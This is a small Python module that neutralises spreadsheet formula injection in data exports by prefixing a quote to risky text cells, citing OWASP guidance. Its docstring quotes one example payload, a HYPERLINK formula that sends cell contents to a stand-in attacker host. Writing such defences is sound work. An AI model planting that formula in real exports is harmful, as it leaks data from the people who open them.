"""Exported cells a spreadsheet shows as text and never runs as a formula. Pure.

Excel, LibreOffice and Google Sheets read a cell that starts with =, +, -, @, a tab or a carriage
return as a formula, so a comment such as =HYPERLINK("http://evil.example/?"&A1,"x") would run
on the machine of whoever opens the monthly export. OWASP's advice (and ASVS 1.2.10, which adds
the NUL character): put a single quote in front, which spreadsheets take as "this is text", and
quote every text cell. Numbers and booleans the export makes itself are left as they are.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")


def inert_cell(value: object) -> object:
    """A text cell that could start a formula, with a leading quote; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def inert_row(row: dict) -> dict:
    """Every cell of an export row made inert."""
    return {name: inert_cell(value) for name, value in row.items()}
